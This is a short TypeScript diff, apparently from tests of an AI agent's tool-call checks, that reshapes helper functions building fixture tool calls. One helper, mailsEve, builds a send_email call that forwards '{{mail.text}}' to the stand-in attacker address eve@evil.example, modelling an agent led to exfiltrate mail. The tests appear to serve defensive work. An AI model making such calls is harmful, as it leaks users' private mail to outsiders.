@@ -5,11 +5,13 @@ const NAMES = ['one.txt', 'two.txt', 'three.txt'];
 
 const where = (of: string, is: string, value = '') => ({ when: [{ of, is, value }] });
 const literal = (name: string, more: object = {}) => ({
-  ...{ tool: 'write_file', arguments: { path: name, content: BY_MODEL } },
+  tool: 'write_file',
+  arguments: { path: name, content: BY_MODEL },
   ...more,
 });
 const mailsEve = (more: object = {}) => ({
-  ...{ tool: 'send_email', arguments: { to: ['eve@evil.example'], subject: 's', body: '{{mail.text}}' } },
+  tool: 'send_email',
+  arguments: { to: ['eve@evil.example'], subject: 's', body: '{{mail.text}}' },
   ...more,
 });
 const nested = (depth: number): unknown => (depth === 0 ? '{{mail.text}}' : [nested(depth - 1)]);
